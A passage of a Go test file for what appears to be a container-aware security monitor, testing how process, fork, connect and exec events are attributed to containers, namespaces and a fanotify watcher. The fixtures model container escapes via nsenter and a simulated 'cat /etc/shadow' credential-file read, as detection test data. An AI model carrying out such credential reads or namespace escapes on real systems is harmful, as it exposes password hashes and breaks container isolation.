	r.Exec.Attr = record.Attribution{CgroupPath: "/", V1Hierarchy: 8, V1CgroupPath: "/docker/" + v1ID}
	e := m.handle(&r, false)
	if e.Container == nil || e.Container.ContainerID != v1ID || e.Container.Runtime != "docker" {
		t.Fatalf("exec: container %+v", e.Container)
	}
	if e := fork(m, 300, 301, cgHost); e.Container == nil || e.Container.ContainerID != v1ID {
		t.Errorf("fork: container %+v", e.Container)
	}
	c := rec(record.KindConnect, 301, cgHost, "sh")
	c.Net = record.Net{Family: 2, SockType: 1}
	if e := m.handle(&c, false); e.Container == nil || e.Container.ContainerID != v1ID {
		t.Errorf("child's connect: container %+v", e.Container)
	}
	// A host process: v1 path "/".
	h := execRec(400, 1, cgHost, "/bin/true", "/bin/true", "true")
	h.Exec.Attr = record.Attribution{CgroupPath: "/", V1Hierarchy: 8, V1CgroupPath: "/"}
	if e := m.handle(&h, false); e.Container == nil || e.Container.Runtime != "host" {
		t.Errorf("host exec: container %+v", e.Container)
	}
}

// TestMapNamespaces: a container's process in the host's mount namespace
// (it escaped with nsenter or setns) is reported with both, its container
// and the host namespaces it is in; a host process that entered a
// container's mount namespace is the container's.
func TestMapNamespaces(t *testing.T) {
	m := newTestMapper(t)
	const ctrMnt, ctrPid = 4026532174, 4026532177
	hostNet := uint32(4026531833)
	in := execRec(500, 1, cgWeb, "/bin/sh", "/bin/busybox", "sh")
	in.MntNS, in.PidNS, in.NetNS = ctrMnt, ctrPid, hostNet
	if e := m.handle(&in, false); fields(e)["process_host_namespaces"] != "net" {
		t.Errorf("container process on the host network: %q", fields(e)["process_host_namespaces"])
	}
	esc := execRec(501, 500, cgWeb, "/bin/sh", "/bin/busybox", "sh")
	esc.MntNS, esc.PidNS, esc.NetNS = 4026531840, 4026531836, hostNet
	e := m.handle(&esc, false)
	if f := fields(e); f["container_id"] != "3f5e9a1c7b2d" || f["process_host_namespaces"] != "mnt,pid,net" {
		t.Errorf("escaped process: container %q host namespaces %q", f["container_id"], f["process_host_namespaces"])
	}
	// nsenter from the host into the container's mount namespace.
	ns := execRec(600, 1, cgHost, "/bin/cat", "/bin/busybox", "cat", "/etc/shadow")
	ns.MntNS, ns.PidNS, ns.NetNS = ctrMnt, ctrPid, hostNet
	if f := fields(m.handle(&ns, false)); f["container_id"] != "3f5e9a1c7b2d" || f["process_host_namespaces"] != "net" {
		t.Errorf("host process in the container's namespaces: container %q host namespaces %q", f["container_id"], f["process_host_namespaces"])
	}
	// A host process in a mount namespace of its own (a service's
	// private /tmp) stays the host's.
	own := execRec(700, 1, cgHost, "/bin/true", "/bin/true", "true")
	own.MntNS, own.PidNS, own.NetNS = 4026532999, 4026531836, hostNet
	if f := fields(m.handle(&own, false)); f["container_runtime"] != "host" || f["process_host_namespaces"] != "" {
		t.Errorf("host process in its own mount namespace: %v", f)
	}
}

// fakeFiles is a file watcher that fails for processes without a
// directory under the mapper's proc root, as the real one does for a
// process that exited.
type fakeFiles struct {
	procRoot string
	hostNS   uint32 // the pid in the host's mount namespace
	added    []uint32
}

func (f *fakeFiles) AddContainer(pid uint32) error {
	f.added = append(f.added, pid)
	if _, err := os.Stat(filepath.Join(f.procRoot, fmt.Sprint(pid), "ns", "mnt")); err != nil {
		return fmt.Errorf("fanotify: container %d: %w", pid, err)
	}
	if pid == f.hostNS {
		return fmt.Errorf("fanotify: container %d: %w", pid, fanotify.ErrHostNamespace)
	}
	return nil
}
func (f *fakeFiles) RemoveContainer(uint32) error { return nil }

// TestWatchAfterExitedProcess: a container first seen through a process
// that exited (or is a zombie) before the watcher looked at it, or that
// is still in the host's mount namespace, is registered by its next
// process, not left unwatched.
func TestWatchAfterExitedProcess(t *testing.T) {
	m := newTestMapper(t)
	f := &fakeFiles{procRoot: m.procRoot}
	m.files = f
	info := container.Info{CgroupID: 500, ID: "c0ffee", Runtime: container.RuntimeContainerd}
	// 501 is a zombie (no namespaces any more), 502 still in the host's
	// mount namespace, 503 in the container's.
	for _, p := range []string{"501", "502/ns", "503/ns"} {
		if err := os.MkdirAll(filepath.Join(m.procRoot, p), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, p := range []string{"502/ns/mnt", "503/ns/mnt"} {
		if err := os.WriteFile(filepath.Join(m.procRoot, p), nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	f.hostNS = 502
	m.watch(info, 500, true) // exited: /proc/500 is gone
	m.watch(info, 501, true)
	m.watch(info, 502, true)
	m.watch(info, 503, true)
	m.watch(info, 504, true) // registered already: not asked again
	if !slices.Equal(f.added, []uint32{500, 501, 502, 503}) {
		t.Fatalf("watcher asked for %v, want 500 to 503", f.added)
	}
	if by := m.watched[info.ID]; by.pid != 503 {
		t.Errorf("container registered by %d, want 503", by.pid)
	}
}

// TestWatchInitAgainAtExec: a container registered by its init process
// before that process ran the container's program (runc init, not yet
// past pivot_root, whose mounts are not the container's) is registered
// again at the exec, once.
func TestWatchInitAgainAtExec(t *testing.T) {
	m := newTestMapper(t)
	f := &fakeFiles{procRoot: m.procRoot}
	m.files = f
	info := container.Info{CgroupID: 600, ID: "ctr-1", Runtime: container.RuntimeContainerd}
	m.metaOf = func(i container.Info) *container.Metadata {
		if i.ID == info.ID {
			return &container.Metadata{Source: "containerd", InitPID: 600}
		}
		return nil
	}
	for _, p := range []string{"600/ns", "601/ns"} {
		if err := os.MkdirAll(filepath.Join(m.procRoot, p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(m.procRoot, p, "mnt"), nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	m.watch(info, 600, false) // runc init's setuid: registered by the init pid
	m.watch(info, 601, true)  // another process's exec: the init stays
	m.watch(info, 600, true)  // the init runs the container's program: again
	m.watch(info, 600, true)  // and not again
	if !slices.Equal(f.added, []uint32{600, 600}) {
		t.Fatalf("watcher asked for %v, want 600 twice", f.added)
	}
	if by := m.watched[info.ID]; by.pid != 600 || !by.init || !by.execd {
		t.Errorf("registered by %+v", by)
	}
}
